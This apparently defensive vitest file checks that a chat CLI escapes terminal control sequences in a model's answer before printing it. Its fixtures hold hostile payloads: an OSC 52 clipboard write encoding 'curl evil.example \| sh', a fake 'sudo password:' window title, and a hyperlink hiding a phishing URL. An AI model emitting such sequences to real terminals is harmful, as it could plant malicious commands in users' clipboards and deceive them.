import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { main } from '../../../src/cli/main';
import { printableAnswer } from '../../../src/core/terminalText';
import { CapturedIo } from '../support/CapturedIo';
import { writeTwoRungPanel } from '../support/twoRungPanel';
import { fixture, json, replay, WireServer } from '../support/wireServer';

/**
 * `rung chat` prints a model's answer to a terminal: the provider's text, which a terminal would obey.
 * An answer holding OSC 52 wrote the reader's clipboard, OSC 0 retitled the window, and OSC 8 made a
 * link that showed other words than where it went.
 */

const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const TITLE = '\u001b]0;sudo password:\u0007';
const HIDDEN_LINK = '\u001b]8;;https://phish.example/\u001b\\the docs\u001b]8;;\u001b\\';
const ANSWER = `Here you are.${CLIPBOARD}${TITLE}\nSee ${HIDDEN_LINK}.\r\nindented:\tyes\rOVERWRITTEN`;

let workspace: string;
let ollama: WireServer;

beforeEach(async () => {
  workspace = mkdtempSync(join(tmpdir(), 'rung-chat-terminal-'));
  // Cut every 3 characters: `\r\n` arrives whole in one place and split in another.
  const chunks = (ANSWER.match(/[\s\S]{1,3}/g) ?? []).map(
    (piece) => `${JSON.stringify({ model: 'qwen2.5:3b', message: { role: 'assistant', content: piece }, done: false })}\n`,
  );
  const done = `${JSON.stringify({ model: 'qwen2.5:3b', message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop', prompt_eval_count: 5, eval_count: 20 })}\n`;
  ollama = new WireServer()
    .on('GET', '/api/tags', json(JSON.parse(fixture('ollama/tags.json'))))
    .on('POST', '/api/chat', replay(chunks.join('') + done));
  writeTwoRungPanel(workspace, await ollama.start(), 'http://127.0.0.1:9');
});

afterEach(async () => {
  await ollama.close();
  rmSync(workspace, { recursive: true, force: true });
});

class TerminalIo extends CapturedIo {
  readonly stdoutIsTTY = true;
}

describe("rung chat's answer on a terminal", () => {
  it('shows the escape sequences in an answer rather than let the terminal obey them, keeping its lines and tabs', async () => {
    const io = new TerminalIo(workspace, { OLLAMA_HOST: 'http://127.0.0.1:9' });
    await main(['chat', '--panel', 'panel.json', '--confidence-check', 'off', 'Say hello'], io);
    expect(io.out).not.toContain('\u001b');
    expect(io.out).not.toContain('\u0007');
    expect(io.out).toContain('Here you are.\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b]0;sudo password:\\x07\n');
    expect(io.out).toContain('See \\x1b]8;;https://phish.example/\\x1b\\the docs\\x1b]8;;\\x1b\\.\r\n');
    expect(io.out).toContain('indented:\tyes\\rOVERWRITTEN');
  });

  it('writes the answer as the provider sent it to a pipe or a file', async () => {
    const io = new CapturedIo(workspace, { OLLAMA_HOST: 'http://127.0.0.1:9' });
    await main(['chat', '--panel', 'panel.json', '--confidence-check', 'off', 'Say hello'], io);
    expect(io.out).toContain(ANSWER);
  });
});

describe('printableAnswer', () => {
  it('keeps line feeds, tabs and a carriage return that ends a line; escapes every other control character', () => {
    expect(printableAnswer('a\tb\r\nc\nd')).toBe('a\tb\r\nc\nd');
    expect(printableAnswer('progress 10%\rprogress 99%')).toBe('progress 10%\\rprogress 99%');
    expect(printableAnswer('\u001b[2J\u009b31m\u202eevil')).toBe('\\x1b[2J\\x9b31m\\u202eevil');
  });
});
